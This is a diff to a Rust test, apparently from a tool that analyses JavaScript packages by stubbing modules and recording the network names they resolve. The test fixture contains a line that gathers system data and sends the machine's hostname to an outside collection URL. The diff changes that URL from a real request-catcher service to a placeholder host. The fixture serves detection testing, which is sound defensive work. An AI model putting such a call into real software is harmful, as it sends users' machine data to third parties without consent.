@@ -489,7 +489,7 @@ fn stubs_follow_urls_and_callbacks() {
 require("./helpers-not-shipped");
 const requests = require("requests-undeclared-shape");
 require("systeminfo-shape").getAllData((data) => {
-  requests("https://collect.pipedream.net/?h=" + os.hostname(), () => {});
+  requests("https://collect.catcher-shape.example/?h=" + os.hostname(), () => {});
 });
 "#,
             ),
@@ -502,7 +502,7 @@ require("systeminfo-shape").getAllData((data) => {
     assert!(
         report.observations.iter().any(|observation| matches!(
             observation,
-            Observation::Resolved { name } if name == "collect.pipedream.net"
+            Observation::Resolved { name } if name == "collect.catcher-shape.example"
         )),
         "{report:#?}"
     );
